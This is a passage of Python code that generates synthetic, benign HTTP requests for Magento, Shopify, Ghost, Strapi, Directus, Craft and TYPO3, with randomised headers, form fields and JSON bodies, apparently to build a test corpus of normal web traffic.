             "  products(search: $search, pageSize: $pageSize, currentPage: $currentPage, sort: $sort) {\n"
             "    total_count\n    items { uid name sku url_key small_image { url label } price_range { minimum_price { final_price { value currency } } } }\n"
             "    aggregations { attribute_code label options { label value count } }\n  }\n}")
        body = {"query": q, "variables": {"search": pick(SEARCH_TERMS), "pageSize": 12, "currentPage": R.randint(1, 4), "sort": {"relevance": "DESC"}}, "operationName": "ProductSearch"}
        return B(c, "magento_graphql", "POST", "/graphql", browser(h, accept="*/*", extra=[["Content-Type", "application/json"], ["Store", pick(["default", "de", "fr"])]]), jdump(body))
    if r < 0.65:
        q = "query getCategoryProducts($id:String!,$pageSize:Int!){categoryList(filters:{category_uid:{eq:$id}}){uid name url_path children_count}products(filter:{category_uid:{eq:$id}},pageSize:$pageSize){items{name sku}}}"
        variables = jdump({"id": base64.b64encode(str(R.randint(2, 80)).encode()).decode(), "pageSize": 24})
        uri = "/graphql?query=%s&operationName=getCategoryProducts&variables=%s" % (qpct(q), qpct(variables))
        return B(c, "magento_graphql", "GET", uri, browser(h, accept="*/*", extra=[["Store", "default"], ["Content-Currency", pick(["EUR", "GBP", "USD"])]]))
    n, em = person()
    if r < 0.85:
        q = ("mutation setShipping($cartId: String!, $firstname: String!, $lastname: String!, $street: [String]!) {\n"
             "  setShippingAddressesOnCart(input: {cart_id: $cartId, shipping_addresses: [{address: {firstname: $firstname, lastname: $lastname, company: \"\", street: $street, city: \"Cork\", region: \"\", postcode: \"T12 X70A\", country_code: \"IE\", telephone: \"+353 21 000 0000\", save_in_address_book: false}}]}) {\n"
             "    cart { shipping_addresses { firstname lastname available_shipping_methods { carrier_code method_code amount { value } } } }\n  }\n}")
        body = {"query": q, "variables": {"cartId": tok(32), "firstname": n.split()[0], "lastname": n.split()[-1], "street": [pick(["3 Union Quay", "Flat 2, O'Sullivan's Lane"])]}}
    else:
        q = "mutation { createProductReview(input: {sku: \"%s\", nickname: \"%s\", summary: \"%s\", text: \"%s\", ratings: [{id: \"NA==\", value_id: \"MTk=\"}]}) { review { nickname summary text average_rating } } }" % (
            pick(SKUS), n.replace('"', ""), pick(["Love it", "Runs small – select one size up", "Not bad"]), pick(PROSE).replace('"', '\\"'))
        body = {"query": q}
    return B(c, "magento_graphql", "POST", "/graphql", api(h, pick(UA_BROWSERS), "application/json", auth="Bearer " + tok(32, "abcdefghijklmnopqrstuvwxyz0123456789") if R.random() < 0.5 else None), jdump(body))


def magento_admin(c):
    h = host("magento")
    front = pick(["admin", "backend", "admin_1x9k2q", "mgmt_7q2"])
    fk = tok(16)
    r = R.random()
    if r < 0.45:
        pairs = [("namespace", pick(["product_listing", "sales_order_grid", "customer_listing", "cms_page_listing", "cms_block_listing"])),
                 ("search", pick(["", "union jack", "O'Neill", "drop earrings", "select"])), ("filters[placeholder]", "true"),
                 ("paging[pageSize]", pick(["20", "50", "200"])), ("paging[current]", str(R.randint(1, 5))),
                 ("sorting[field]", pick(["entity_id", "name", "created_at", "increment_id", "billing_name"])), ("sorting[direction]", pick(["asc", "desc"])),
                 ("isAjax", "true")]
        if R.random() < 0.5:
            pairs.insert(3, ("filters[name]", pick(["Faroe", "chef's knife", "union"])))
        if R.random() < 0.3:
            pairs.insert(3, ("filters[created_at][from]", "05/01/2024"))
        return B(c, "magento_admin", "GET", "/%s/mui/index/render/?%s" % (front, form(pairs)),
                 browser(h, accept="application/json, text/javascript, */*; q=0.01", cookie="admin=" + tok(26, "abcdefghijklmnopqrstuv0123456789"), extra=[["X-Requested-With", "XMLHttpRequest"]]))
    if r < 0.75:
        pid = R.randint(1, 3000)
        pairs = [("product[name]", pick(["Faroe wool jumper – 'Grind' pattern", "Chef's knife 20cm", "Union Jack mug", "A5 dot-grid notebook"])),
                 ("product[sku]", pick(SKUS)), ("product[price]", "%.2f" % R.uniform(5, 250)), ("product[status]", "1"),
                 ("product[quantity_and_stock_status][qty]", str(R.randint(0, 500))), ("product[description]", rich_html("magento")),
                 ("product[short_description]", "<p>%s</p>" % pick(PROSE)), ("product[meta_title]", pick(TITLES)), ("product[meta_keyword]", "wool, jumper, faroe"),
                 ("product[meta_description]", pick(SEO_DESC)), ("product[url_key]", slugify(pick(TITLES))),
                 ("product[website_ids][1]", "1"), ("form_key", fk), ("back", "edit")]
        return B(c, "magento_admin", "POST", "/%s/catalog/product/save/id/%d/type/simple/store/0/set/4/back/edit/key/%s/" % (front, pid, hexs(64)),
                 browser(h, accept="application/json, text/javascript, */*; q=0.01", cookie="admin=" + tok(26, "abcdefghijklmnopqrstuv0123456789"),
                         extra=[["X-Requested-With", "XMLHttpRequest"], ["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"]]), form(pairs))
    if r < 0.9:
        title = pick(TITLES)
        pairs = [("title", title), ("is_active", "1"), ("content_heading", title), ("content", rich_html("magento")), ("identifier", slugify(title)),
                 ("meta_title", title), ("meta_keywords", ""), ("meta_description", pick(SEO_DESC)), ("store_id[0]", "0"), ("page_layout", "1column"),
                 ("form_key", fk)]
        return B(c, "magento_admin", "POST", "/%s/cms/page/save/key/%s/" % (front, hexs(64)),
                 browser(h, cookie="admin=" + tok(26, "abcdefghijklmnopqrstuv0123456789"), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    pairs = [("request_path", pick(["old-shop/red-shoes.html", "sale-2023.html", "jumpers/grind-pattern.html"])),
             ("target_path", pick(["shoes/red.html", "sale.html", "knitwear/faroe-grind-jumper.html"])), ("redirect_type", pick(["301", "302"])),
             ("description", pick(["Moved after category restructure", "Old campaign URL – drop after Q3"])), ("store_id", "1"), ("form_key", fk)]
    return B(c, "magento_admin", "POST", "/%s/admin/url_rewrite/save/id/%d/key/%s/" % (front, R.randint(1, 900), hexs(64)),
             browser(h, cookie="admin=" + tok(26, "abcdefghijklmnopqrstuv0123456789"), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))


def magento_store(c):
    h = host("magento")
    r = R.random()
    fk = tok(16)
    if r < 0.3:
        pid = R.randint(1, 3000)
        uenc = base64.urlsafe_b64encode(("https://%s/%s.html" % (h, slugify(pick(TITLES)))).encode()).decode().replace("=", ",")
        pairs = [("product", str(pid)), ("selected_configurable_option", ""), ("related_product", ""), ("item", str(pid)), ("form_key", fk),
                 ("super_attribute[93]", str(R.randint(49, 60))), ("super_attribute[144]", str(R.randint(160, 175))), ("qty", str(R.randint(1, 3)))]
        if R.random() < 0.4:
            pairs.append(("options[%d]" % R.randint(1, 9), pick(["Happy 40th, D'Arcy!", "To Mum & Dad", "Merry Christmas"])))
        return B(c, "magento_store", "POST", "/checkout/cart/add/uenc/%s/product/%d/" % (uenc, pid),
                 browser(h, accept="application/json, text/javascript, */*; q=0.01", cookie=ck_magento(),
                         extra=[["X-Requested-With", "XMLHttpRequest"], ["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"]]), form(pairs))
    if r < 0.5:
        uri = "/catalogsearch/result/?q=" + qp(pick(SEARCH_TERMS))
        if R.random() < 0.5:
            uri += "&" + form([("price", "%d-%d" % (R.randint(0, 5) * 10, R.randint(6, 20) * 10)), ("color", str(R.randint(49, 60))),
                               ("product_list_order", pick(["price", "name", "relevance"])), ("product_list_dir", pick(["asc", "desc"]))])
        return B(c, "magento_store", "GET", uri, browser(h, cookie=ck_magento()))
    if r < 0.65:
        n, em = person()
        pairs = [("ratings[4]", str(R.randint(16, 20))), ("validate_rating", ""), ("nickname", n), ("title", pick(["Lovely & warm", "Select one size up!", "Didn't fit, returned"])),
                 ("detail", pick(PROSE) + " " + pick(PROSE))]
        return B(c, "magento_store", "POST", "/review/product/post/id/%d/" % R.randint(1, 3000),
                 browser(h, cookie=ck_magento(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    if r < 0.75:
        return B(c, "magento_store", "POST", "/newsletter/subscriber/new/", browser(h, cookie=ck_magento(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]),
                 form([("form_key", fk), ("email", person()[1])]))
    if r < 0.88:
        return B(c, "magento_store", "GET", "/customer/section/load/?sections=%s&force_new_section_timestamp=%s&_=%d" % (
            qp(",".join(R.sample(["cart", "customer", "compare-products", "wishlist", "directory-data", "messages", "last-ordered-items", "captcha", "instant-purchase", "persistent", "review", "recently_viewed_product"], 4))),
            pick(["true", "false"]), 1717000000000 + R.randint(0, 9999999)),
            browser(h, accept="application/json, text/javascript, */*; q=0.01", cookie=ck_magento(), extra=[["X-Requested-With", "XMLHttpRequest"]]))
    n, em = person()
    pairs = [("form_key", fk), ("success_url", ""), ("error_url", ""), ("firstname", n.split()[0]), ("lastname", n.split()[-1]),
             ("email", em), ("password", tok(14) + "!"), ("password_confirmation", ""), ("is_subscribed", pick(["0", "1"]))]
    pairs[-2] = ("password_confirmation", pairs[-3][1])
    return B(c, "magento_store", "POST", "/customer/account/createpost/", browser(h, cookie=ck_magento(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))


# ---------------------------------------------------------------- Shopify-style

def shopify(c):
    h = host("shopify")
    r = R.random()
    sig = hexs(64)
    ts = str(1717000000 + R.randint(0, 9000000))
    if r < 0.35:
        pairs = [("shop", h), ("logged_in_customer_id", pick(["", str(R.randint(6000000000, 7999999999))])), ("path_prefix", "/apps/" + pick(["reviews", "wishlist", "loyalty"])),
                 ("timestamp", ts), ("signature", sig)]
        extra = [("product_id", str(R.randint(7000000000000, 8999999999999))), ("page", str(R.randint(1, 5))), ("sort", pick(["newest", "highest", "with_photos"]))]
        pairs = pairs[:1] + extra[: R.randint(1, 3)] + pairs[1:]
        return B(c, "shopify_proxy", "GET", "/apps/%s/widget?%s" % (pick(["reviews", "wishlist", "loyalty"]), form(pairs)),
                 [["Host", h], ["User-Agent", "Shopify Proxy"], ["Accept", "*/*"], ["X-Forwarded-For", "%d.%d.%d.%d" % (R.randint(2, 220), R.randint(0, 255), R.randint(0, 255), R.randint(1, 254))], ["X-Forwarded-Host", h.replace(".myshopify.com", ".example")]])
    if r < 0.55:
        n, em = person()
        body = {"product_id": R.randint(7000000000000, 8999999999999), "rating": R.randint(3, 5), "author": n, "email": em,
                "title": pick(["Lovely candle", "Smells like my nan's garden", "Select the big one, it lasts ages"]), "body": pick(PROSE) + " " + pick(PROSE)}
        return B(c, "shopify_proxy", "POST", "/apps/reviews/submit?" + form([("shop", h), ("logged_in_customer_id", ""), ("path_prefix", "/apps/reviews"), ("timestamp", ts), ("signature", sig)]),
                 [["Host", h], ["User-Agent", "Shopify Proxy"], ["Accept", "application/json"], ["Content-Type", "application/json"]], jdump(body))
    if r < 0.75:
        n, em = person()
        order = {"id": R.randint(5000000000000, 5999999999999), "email": em, "created_at": "2024-06-%02dT10:%02d:00+01:00" % (R.randint(1, 28), R.randint(0, 59)),
                 "currency": "GBP", "total_price": "%.2f" % R.uniform(10, 300), "note": pick(["Gift – please don't include the receipt", "Leave in the porch", ""]),
                 "note_attributes": [{"name": "gift_message", "value": pick(["Happy birthday, D'Arcy!", "Love from all of us x"])}],
                 "customer": {"first_name": n.split()[0], "last_name": n.split()[-1], "email": em},
                 "line_items": [{"id": R.randint(10 ** 13, 10 ** 14), "title": pick(["Fig & cedar candle", "Stoneware mug"]), "quantity": R.randint(1, 3), "sku": pick(SKUS),
                                 "properties": [{"name": "Engraving", "value": pick(["S.O'B", "Union 1912", "<3 Mum"])}]}]}
        return B(c, "shopify_webhook", "POST", "/webhooks/orders/create",
                 [["Host", "app.reviewsly.example"], ["User-Agent", "Shopify-Captain-Hook"], ["Accept", "*/*"], ["Content-Type", "application/json"],
                  ["X-Shopify-Topic", "orders/create"], ["X-Shopify-Hmac-Sha256", base64.b64encode(bytes(R.randrange(256) for _ in range(32))).decode()],
                  ["X-Shopify-Shop-Domain", h], ["X-Shopify-API-Version", "2024-04"], ["X-Shopify-Webhook-Id", uuid4()]], jdump(order))
    if r < 0.9:
        body = {"items": [{"id": R.randint(40000000000000, 49999999999999), "quantity": R.randint(1, 3),
                           "properties": {"Engraving": pick(["Love, Mum & Dad", "O'Brien family", "Est. 1998"]), "_gift_wrap": pick(["yes", "no"])}}]}
        return B(c, "shopify_store", "POST", "/cart/add.js", browser(h.replace(".myshopify.com", ".example"), accept="application/json", extra=[["Content-Type", "application/json"], ["X-Requested-With", "XMLHttpRequest"]]), jdump(body))
    pairs = [("q", pick(SEARCH_TERMS)), ("type", "product"), ("options[prefix]", "last"), ("filter.v.price.gte", str(R.randint(0, 20))),
             ("filter.p.m.custom.material", pick(["Wool", "Soy wax", "Stoneware"])), ("sort_by", pick(["price-ascending", "relevance", "created-descending"]))]
    return B(c, "shopify_store", "GET", "/search?" + form(pairs[: R.randint(2, 6)]), browser(h.replace(".myshopify.com", ".example")))


# ---------------------------------------------------------------- Ghost

def lexical_doc(paras):
    children = []
    for p in paras:
        children.append({"children": [{"detail": 0, "format": pick([0, 1, 2]), "mode": "normal", "style": "", "text": p, "type": "extended-text", "version": 1}],
                         "direction": "ltr", "format": "", "indent": 0, "type": "paragraph", "version": 1})
    if R.random() < 0.4:
        children.append({"type": "embed", "version": 1, "url": "https://www.youtube.com/watch?v=" + pick(YOUTUBE_IDS), "embedType": "video",
                         "html": html_youtube(), "metadata": {"provider_name": "YouTube", "title": pick(TITLES)}, "caption": ""})
    return jdump({"root": {"children": children, "direction": "ltr", "format": "", "indent": 0, "type": "root", "version": 1}})


def mobiledoc(paras):
    return jdump({"version": "0.3.1", "atoms": [], "cards": [["image", {"src": "https://%s/content/images/2024/05/%s.jpg" % (host("ghost"), slugify(pick(TITLES))), "caption": pick(PROSE)}]],
                  "markups": [["a", ["href", "https://www.example.org/programme"]], ["strong"]],
                  "sections": [[1, "p", [[0, [], 0, p]]] for p in paras] + [[10, 0]]})


def ghost(c):
    h = host("ghost")
    r = R.random()
    auth = "Ghost " + jwt_like()
    ua = pick(["Ghost-Admin-API/1.13.11", "Zapier", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", pick(UA_BROWSERS)])
    if r < 0.3:
        title = pick(TITLES)
        post = {"title": title, "status": pick(["draft", "published", "scheduled"]), "tags": R.sample(["News", "Union", "Events", "#newsletter", "Recipes"], 2),
                "custom_excerpt": pick(PROSE), "meta_title": title + " | Field Notes", "meta_description": pick(SEO_DESC),
                "og_image": "https://%s/content/images/2024/06/%s.jpg" % (h, slugify(title)), "canonical_url": pick([None, "https://www.slowcraft.example/%s/" % slugify(title)])}
        kind = R.random()
        if kind < 0.4:
            post["html"] = rich_html("ghost")
            uri = "/ghost/api/admin/posts/?source=html"
        elif kind < 0.75:
            post["lexical"] = lexical_doc(R.sample(PROSE, R.randint(2, 4)))
            uri = "/ghost/api/admin/posts/"
        else:
            post["mobiledoc"] = mobiledoc(R.sample(PROSE, R.randint(2, 3)))
            uri = "/ghost/api/admin/posts/"
        method = "POST"
        if R.random() < 0.4:
            method = "PUT"
            pid = hexs(24)
            post["updated_at"] = "2024-06-%02dT%02d:%02d:11.000Z" % (R.randint(1, 28), R.randint(0, 23), R.randint(0, 59))
            uri = uri.replace("/posts/", "/posts/%s/" % pid)
        return B(c, "ghost_admin", method, uri, api(h, ua, "application/json", auth=auth, extra=[["Accept-Version", "v5.0"]]), jdump({"posts": [post]}))
    if r < 0.55:
        pairs = [("key", hexs(26)), ("filter", pick(["tag:getting-started+featured:true", "published_at:>'2024-01-01'", "tags:[news,union]+visibility:public",
                                                     "primary_author:siobhan-obrien", "slug:-[about,contact]", "title:~'union'"])),
                 ("include", pick(["tags,authors", "tags", "authors"])), ("limit", str(pick([5, 10, 15, "all"]))), ("fields", pick(["title,slug,feature_image,published_at", "title,url", "id,title,excerpt"]))]
        if R.random() < 0.4:
            pairs.append(("order", pick(["published_at DESC", "title ASC"])))
        return B(c, "ghost_content", "GET", "/ghost/api/content/posts/?" + form(pairs[: R.randint(3, len(pairs))]), api(h, pick(["@tryghost/content-api 1.11.20", "gatsby-source-ghost"]), extra=[["Accept-Version", "v5.0"]]))
    if r < 0.75:
        n, em = person()
        body = {"email": em, "emailType": pick(["signup", "signin", "subscribe"]), "labels": R.sample(["Newsletter", "Union", "Events"], R.randint(0, 2)),
                "name": n, "newsletters": [{"name": pick(["Weekly digest", "Field notes"])}], "urlHistory": [{"path": "/", "time": 1717000000000 + R.randint(0, 9999999), "referrerSource": pick(["Direct", "Twitter", None]), "referrerMedium": None, "referrerUrl": None}],
                "autoRedirect": True}
        return B(c, "ghost_members", "POST", "/members/api/send-magic-link/", browser(h, accept="*/*", extra=[["Content-Type", "application/json"], ["Origin", "https://" + h]]), jdump(body))
    if r < 0.88:
        body = {"comments": [{"post_id": hexs(24), "status": "published", "html": "<p>%s</p>" % pick(PROSE)}]}
        if R.random() < 0.4:
            body["comments"][0]["parent_id"] = hexs(24)
        return B(c, "ghost_members", "POST", "/members/api/comments/", browser(h, accept="application/json", cookie="ghost-members-ssr=%s; ghost-members-ssr.sig=%s" % (tok(36, B64URL), tok(27, B64URL)),
                                                                             extra=[["Content-Type", "application/json"], ["Origin", "https://" + h]]), jdump(body))
    tag = pick(["Union news", "Recipes & food", "What's on", "Behind the scenes"])
    body = {"tags": [{"name": tag, "slug": slugify(tag), "description": pick(PROSE), "meta_title": tag + " – Field Notes", "accent_color": pick(["#15171A", "#FF1A75", None]),
                      "codeinjection_head": None, "og_description": pick(SEO_DESC)}]}
    return B(c, "ghost_admin", "POST", "/ghost/api/admin/tags/", browser(h, accept="application/json", cookie=ck_ghost(), extra=[["Content-Type", "application/json"], ["App-Pragma", "no-cache"], ["X-Ghost-Version", "5.85"]]), jdump(body))


# ---------------------------------------------------------------- Strapi / Directus

def strapi(c):
    h = host("strapi")
    r = R.random()
    ua = pick(["axios/1.6.8", "Next.js Middleware", "node", "undici", pick(UA_BROWSERS)])
    auth = "Bearer " + tok(256, "abcdef0123456789")
    if r < 0.5:
        ct = pick(["articles", "events", "pages", "projects"])
        pairs = []
        pool = [[("filters[title][$containsi]", pick(["union", "O'Brien", "select", "summer"]))],
                [("filters[publishedAt][$gte]", "2024-%02d-01T00:00:00.000Z" % R.randint(1, 12))],
                [("filters[$or][0][slug][$eq]", "summer-festival"), ("filters[$or][1][title][$eq]", "Summer festival 2024")],
                [("filters[category][slug][$in][0]", "news"), ("filters[category][slug][$in][1]", "events")],
                [("filters[author][name][$eq]", pick(NAMES))],
                [("filters[featured][$eq]", "true"), ("filters[price][$lte]", str(R.randint(10, 100)))],
                [("filters[$and][0][startDate][$gte]", "2024-06-01"), ("filters[$and][1][startDate][$lt]", "2024-07-01")]]
        for p in R.sample(pool, R.randint(1, 3)):
            pairs += p
        pairs += R.sample([("populate[author][fields][0]", "name"), ("populate[author][fields][1]", "slug"), ("populate[cover]", "*"), ("populate", "*"),
                           ("populate[seo][populate]", "metaImage"), ("populate[blocks][on][shared.rich-text][fields][0]", "body")], R.randint(1, 3))
        pairs += [("sort[0]", pick(["publishedAt:desc", "title:asc", "startDate:asc"])), ("pagination[page]", str(R.randint(1, 5))), ("pagination[pageSize]", pick(["10", "25", "100"]))]
        if R.random() < 0.3:
            pairs.append(("locale", pick(["en", "fr", "de", "ja"])))
        raw = R.random() < 0.5
        return B(c, "strapi", "GET", "/api/%s?%s" % (ct, form(pairs, raw_keys=raw)), api(h, ua, auth=auth if R.random() < 0.5 else None))
    if r < 0.8:
        title = pick(TITLES)
        data = {"title": title, "slug": slugify(title), "content": pick(MARKDOWN), "excerpt": pick(PROSE),
                "seo": {"metaTitle": title, "metaDescription": pick(SEO_DESC), "canonicalURL": "https://www.marketing-site.example/blog/" + slugify(title)},
                "categories": {"connect": [R.randint(1, 12) for _ in range(R.randint(1, 2))]}}
        if R.random() < 0.5:
            data["blocks"] = [{"__component": "shared.rich-text", "body": pick(MARKDOWN)},
                              {"__component": "shared.media", "file": R.randint(1, 300)},
                              {"__component": "shared.quote", "title": pick(NAMES), "body": pick(PROSE)}]
        method = pick(["POST", "PUT"])
        uri = "/api/articles" if method == "POST" else "/api/articles/%s" % pick([str(R.randint(1, 400)), tok(24, "abcdefghijklmnopqrstuvwxyz0123456789")])
        return B(c, "strapi", method, uri, api(h, ua, "application/json", auth=auth), jdump({"data": data}))
    if r < 0.9:
        return B(c, "strapi", "POST", "/api/auth/local", api(h, ua, "application/json"), jdump({"identifier": person()[1], "password": tok(12) + "#"}))
    img = fake_jpeg() if R.random() < 0.5 else fake_png()
    fname = pick(["hero", "speaker-%s" % slugify(pick(NAMES)), "IMG_%04d" % R.randint(1, 9999)]) + (".jpg" if img[:2] == b"\xff\xd8" else ".png")
    ctype, body = multipart([("files", img, fname, "image/jpeg" if fname.endswith("jpg") else "image/png"),
                             ("fileInfo", jdump({"name": fname, "alternativeText": pick(["Speaker on stage", "Harbour at dusk", ""]), "caption": pick(PROSE)}))], style="node")
    return B(c, "strapi_upload", "POST", "/api/upload", api(h, ua, ctype, auth=auth), body)


def directus(c):
    h = host("directus")
    r = R.random()
    ua = pick(["@directus/sdk", "axios/1.7.2", "Nuxt", pick(UA_BROWSERS)])
    auth = "Bearer " + tok(32, B64URL)
    if r < 0.45:
        coll = pick(["articles", "exhibits", "menu_items", "events", "pages"])
        pairs = [("fields", pick(["*,author.first_name,author.last_name", "*,translations.*", "id,title,slug,image.id,image.description", "*.*"]))]
        pool = [[("filter[status][_eq]", "published")], [("filter[date_published][_lte]", "$NOW")], [("filter[date_published][_gte]", "$NOW(-30 days)")],
                [("filter[user_created][_eq]", "$CURRENT_USER")], [("filter[title][_icontains]", pick(["union", "select", "O'Brien", "café"]))],
                [("filter[tags][_contains]", pick(["vegan", "gluten-free"]))],
                [("deep[translations][_filter][languages_code][_eq]", pick(["de-DE", "fr-FR", "nl-NL"]))],
                [("filter", jdump({"_and": [{"status": {"_eq": "published"}}, {"title": {"_icontains": pick(["union", "drop"])}}]}))],
                [("search", pick(SEARCH_TERMS))]]
        for p in R.sample(pool, R.randint(1, 3)):
            pairs += p
        pairs += [("sort", pick(["-date_published", "title", "sort,-date_created"])), ("limit", pick(["10", "25", "-1"])), ("meta", pick(["filter_count", "total_count", "*"]))]
        return B(c, "directus", "GET", "/items/%s?%s" % (coll, form(pairs, raw_keys=R.random() < 0.5)), api(h, ua, auth=auth))
    if r < 0.7:
        title = pick(TITLES)
        data = {"status": pick(["draft", "published"]), "title": title, "slug": slugify(title), "body": rich_html("directus"),
                "translations": {"create": [{"languages_code": t[0], "title": t[1], "body": t[2]} for t in R.sample(TRANSLATIONS, R.randint(1, 2))]}}
        method = pick(["POST", "PATCH"])
        uri = "/items/articles" if method == "POST" else "/items/articles/%d" % R.randint(1, 900)
        return B(c, "directus", method, uri, api(h, ua, "application/json", auth=auth), jdump(data))
    if r < 0.8:
        return B(c, "directus", "POST", "/auth/login", browser(h, accept="application/json", extra=[["Content-Type", "application/json"]]),
                 jdump({"email": person()[1], "password": tok(14), "mode": pick(["cookie", "session"])}))
    if r < 0.9:
        url = pick(["https://images.unsplash.com/photo-%d-%s?w=1600&q=80" % (R.randint(1500000000000, 1700000000000), hexs(12)),
                    "https://upload.wikimedia.org/wikipedia/commons/%s/%s/Harbour_at_dusk.jpg" % (hexs(1), hexs(2)),
                    "https://cdn.museum-archive.example/exports/catalogue-%d.pdf" % R.randint(1, 99)])
        return B(c, "directus", "POST", "/files/import", api(h, ua, "application/json", auth=auth),
                 jdump({"url": url, "data": {"title": pick(TITLES), "folder": uuid4(), "description": pick(PROSE)}}))
    img = fake_jpeg()
    ctype, body = multipart([("folder", uuid4()), ("title", pick(TITLES)), ("file", img, "exhibit-%d.jpg" % R.randint(1, 999), "image/jpeg")])
    return B(c, "directus", "POST", "/files", api(h, ua, ctype, auth=auth), body)


# ---------------------------------------------------------------- Craft / TYPO3 / Umbraco / Sitecore / Concrete

def craft(c):
    h = host("craft")
    r = R.random()
    csrf = hexs(64) + tok(40, B64URL)
    if r < 0.35:
        title = pick(TITLES)
        pairs = [("CRAFT_CSRF_TOKEN", csrf), ("action", "entries/save-entry"), ("sectionId", str(R.randint(1, 8))), ("entryId", str(R.randint(10, 5000))),
                 ("redirect", hexs(64) + pick(["news/{slug}", "projects/{slug}?saved=1", "account/entries"])), ("title", title),
                 ("fields[summary]", pick(PROSE)), ("fields[body]", rich_html("craft")), ("fields[featuredImage][]", str(R.randint(100, 900))),
                 ("fields[seo][metaDescription]", pick(SEO_DESC))]
        return B(c, "craft", "POST", "/", browser(h, cookie=ck_craft(), extra=[["Content-Type", "application/x-www-form-urlencoded"], ["Origin", "https://" + h]]), form(pairs))
    if r < 0.5:
        n, em = person()
        pairs = [("CRAFT_CSRF_TOKEN", csrf), ("action", "contact-form/send"), ("redirect", hexs(64) + "contact/thanks"), ("fromName", n), ("fromEmail", em),
                 ("subject", pick(["Project enquiry", "Drop-in visit", "Select tour"])), ("message[body]", pick(PROSE) + "\n\n" + pick(PROSE)),
                 ("message[Phone]", "+44 %d" % R.randint(1000000000, 7999999999))]
        return B(c, "craft", "POST", "/", browser(h, cookie=ck_craft(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    if r < 0.65:
        q = pick(['{ entries(section: "news", limit: 5, orderBy: "postDate DESC") { title url postDate @formatDateTime(format: "j M Y") ... on news_article_Entry { summary } } }',
                  'query ($slug: [String]) { entry(section: "projects", slug: $slug) { title ... on projects_default_Entry { location body heroImage { url @transform(width: 1200) } } } }'])
        body = {"query": q}
        if "$slug" in q:
            body["variables"] = {"slug": [slugify(pick(TITLES))]}
        return B(c, "craft", "POST", "/api", api(h, pick(["Gatsby", "graphql-request", "axios/1.6.8"]), "application/json", auth="Bearer " + tok(32, B64URL)), jdump(body))
    if r < 0.8:
        pairs = [("CRAFT_CSRF_TOKEN", csrf), ("action", "users/login"), ("loginName", pick(["editor@harbourarchitects.example", "sobrien", "j.garcia"])), ("password", tok(14)), ("rememberMe", "1")]
        return B(c, "craft", "POST", "/index.php?p=admin/actions/users/login", browser(h, accept="application/json", cookie=ck_craft(), extra=[["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"], ["X-Requested-With", "XMLHttpRequest"], ["X-CSRF-Token", csrf]]), form(pairs))
    # SEOmatic field values (Twig-ish variables are the documented way to fill them)
    pairs = [("CRAFT_CSRF_TOKEN", csrf), ("action", "seomatic/settings/save-global"), ("siteId", "1"), ("loadFromSiteHandle", ""),
             ("metaGlobalVars[seoTitle]", pick(["{{ entry.title }}", "{{ seomatic.helper.extractTextFromField(entry.headline) }}"])),
             ("metaGlobalVars[seoDescription]", pick(["{{ seomatic.helper.extractSummary(entry.summary) }}", pick(SEO_DESC)])),
             ("metaGlobalVars[seoImage]", "{{ seomatic.helper.socialTransform(entry.heroImage.one(), 'base') }}"),
             ("metaGlobalVars[canonicalUrl]", "{{ seomatic.helper.safeCanonicalUrl() }}"), ("metaGlobalVars[robots]", pick(["all", "noindex, follow"])),
             ("metaSiteVars[siteName]", pick(["Harbour Architects", "Bluepeak Brewing Co."])), ("metaSiteVars[twitterHandle]", pick(["harbourarch", "bluepeakbrew"]))]
    return B(c, "craft_seo", "POST", "/admin/seomatic/global/general", browser(h, cookie=ck_craft(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))


def typo3(c):
    h = host("typo3")
    r = R.random()
    if r < 0.3:
        pairs = [("id", str(R.randint(1, 600))), ("L", str(R.randint(0, 3)))]
        if R.random() < 0.6:
            pairs += [("tx_news_pi1[news]", str(R.randint(1, 2000))), ("tx_news_pi1[controller]", "News"), ("tx_news_pi1[action]", "detail")]
        pairs.append(("cHash", hexs(32)))
        if R.random() < 0.5:
            return B(c, "typo3", "GET", "/index.php?" + form(pairs, raw_keys=R.random() < 0.5), browser(h))
        return B(c, "typo3", "GET", "/%s/%s/detail/%s" % (pick(["de", "en", "fr"]), pick(["aktuelles", "news", "presse"]), slugify(pick(TITLES))), browser(h))
    if r < 0.45:
        pairs = [("tx_indexedsearch_pi2[__referrer][@extension]", "IndexedSearch"), ("tx_indexedsearch_pi2[__referrer][@controller]", "Search"),
                 ("tx_indexedsearch_pi2[__referrer][@action]", "form"), ("tx_indexedsearch_pi2[__trustedProperties]", '{"search":{"sword":1,"submitButton":1}}' + hexs(40)),
                 ("tx_indexedsearch_pi2[search][sword]", pick(SEARCH_TERMS)), ("tx_indexedsearch_pi2[search][submitButton]", "Suchen")]
        return B(c, "typo3", "POST", "/suche?tx_indexedsearch_pi2%5Baction%5D=search&tx_indexedsearch_pi2%5Bcontroller%5D=Search&cHash=" + hexs(32),
                 browser(h, extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    if r < 0.7:
        uid = R.randint(100, 9000)
        pairs = [("data[tt_content][%d][CType]" % uid, pick(["text", "textmedia", "html"])),
                 ("data[tt_content][%d][header]" % uid, pick(TITLES)), ("data[tt_content][%d][header_layout]" % uid, "2"),
                 ("data[tt_content][%d][bodytext]" % uid, rich_html("typo3")), ("data[tt_content][%d][sys_language_uid]" % uid, str(R.randint(0, 2))),
                 ("data[tt_content][%d][hidden]" % uid, "0"), ("doSave", "1"), ("_savedok", "1"), ("closeDoc", "0"),
                 ("returnUrl", "/typo3/module/web/layout?token=%s&id=%d" % (hexs(40), R.randint(1, 600)))]
        return B(c, "typo3_backend", "POST", "/typo3/record/commit?token=%s" % hexs(40),
                 browser(h, cookie=ck_typo3(True), extra=[["Content-Type", "application/x-www-form-urlencoded"], ["Origin", "https://" + h]]), form(pairs))
    if r < 0.9:
        fid = "contactform-%d" % R.randint(100, 999)
        n, em = person()
        legacy = R.random() < 0.35
        if legacy:
            trusted = 'a:1:{s:%d:"%s";a:4:{s:4:"name";i:1;s:5:"email";i:1;s:7:"message";i:1;s:11:"__currentPage";i:1;}}%s' % (len(fid), fid, hexs(40))
        else:
